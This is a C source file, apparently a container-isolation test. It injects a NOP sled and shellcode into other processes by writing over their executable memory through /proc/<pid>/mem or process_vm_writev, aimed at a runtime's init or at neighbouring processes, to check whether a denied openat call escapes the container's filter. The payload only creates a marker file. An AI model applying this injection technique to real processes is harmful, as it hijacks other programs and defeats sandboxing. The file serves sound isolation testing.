/* Writes code of its own over that of a runtime's init, wherever it can, and has it make a call
 * that the container's filter denies: openat(2), of /tmp/intruded.  For itself it needs openat2(2).
 *   intruder parent           as a hook: over the process that has started it
 *   intruder neighbour        over each new process of its pid namespace, until it is killed
 * Prints on stdout the files that it could open.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

/* openat(AT_FDCWD, "/tmp/intruded", O_RDWR | O_CREAT, 0666); exit_group(77) */
#if defined(__x86_64__)
__asm__(".section .rodata\npayload: lea path(%rip), %rsi\n mov $-100, %rdi\n mov $0x42, %edx\n"
	"mov $0666, %r10d\n mov $257, %eax\n syscall\n mov $77, %edi\n mov $231, %eax\n syscall\n"
	"path: .asciz \"/tmp/intruded\"\n.balign 8\npayload_end:\n.text\n");
enum { NOP_SIZE = 1 };
static const unsigned char nop[] = { 0x90 };
#else
__asm__(".section .rodata\n.balign 8\npayload: adr x1, path\n mov x0, #-100\n mov x2, #0x42\n"
	"mov x3, #0666\n mov x8, #56\n svc #0\n mov x0, #77\n mov x8, #94\n svc #0\n"
	"path: .asciz \"/tmp/intruded\"\n.balign 8\npayload_end:\n.text\n");
enum { NOP_SIZE = 4 };
static const unsigned char nop[] = { 0x1f, 0x20, 0x03, 0xd5 };
#endif
extern const unsigned char payload[], payload_end[];

enum { PAGE = 4096 };
static unsigned char page[PAGE];

static int open_of(long pid, const char *file, uint64_t flags)
{
	uint64_t how[3] = { flags, 0, 0 };
	char path[64];

	snprintf(path, sizeof path, "/proc/%ld/%s", pid, file);
	return (int)syscall(437L, AT_FDCWD, path, how, sizeof how);
}

static void make_page(void)
{
	size_t size = (size_t)(payload_end - payload);

	for (size_t i = 0; i < PAGE; i++)
		page[i] = nop[i % NOP_SIZE];
	memcpy(page + PAGE - size, payload, size);
}

/* The same by the other interface. */
static void write_page(long pid, int memory, unsigned long at)
{
	struct iovec here = { page, PAGE }, there = { (void *)at, PAGE };

	if (pwrite(memory, page, PAGE, (off_t)at) != PAGE)
		process_vm_writev((int)pid, &here, 1, &there, 1, 0);
}

/* Over all code: its next instruction is in the payload. */
static void write_code(long pid, int memory)
{
	static char maps[1 << 16];
	ssize_t n, length = 0;
	int fd = open_of(pid, "maps", O_RDONLY);

	while (fd >= 0 && (n = read(fd, maps + length, sizeof maps - 1 - (size_t)length)) > 0)
		length += n;
	close(fd);
	maps[length] = '\0';
	for (char *line = maps; line; line = strchr(line, '\n')) {
		unsigned long from, to;
		char mode[5] = "";

		line += *line == '\n';
		if (sscanf(line, "%lx-%lx %4s", &from, &to, mode) != 3 || mode[2] != 'x' ||
		    from >> 47)
			continue;
		for (; from < to; from += PAGE)
			write_page(pid, memory, from);
	}
}

static int intrude(long pid)
{
	char name[256] = "";
	int memory = open_of(pid, "mem", O_RDWR), fd;

	if (memory < 0)
		return 0;
	fd = open_of(pid, "cmdline", O_RDONLY);
	if (read(fd, name, sizeof name - 1) < 0)
		*name = '\0';
	close(fd);
	write_code(pid, memory);
	close(memory);
	printf("opened %ld %s\n", pid, name);
	fflush(stdout);
	return 1;
}

int main(int argc, char *argv[])
{
	long own = getpid();

	make_page();
	if (argc != 2)
		return 2;
	if (!strcmp(argv[1], "parent")) {
		if (!intrude(getppid()))
			perror("parent");
		while (read(0, page, PAGE) > 0)	/* read the hook state, or crun dies of SIGPIPE */
			;
		return 0;
	}
	printf("ready\n");
	fflush(stdout);
	for (;;)
		for (long pid = own + 1; pid < own + 400; pid++)
			intrude(pid);
}
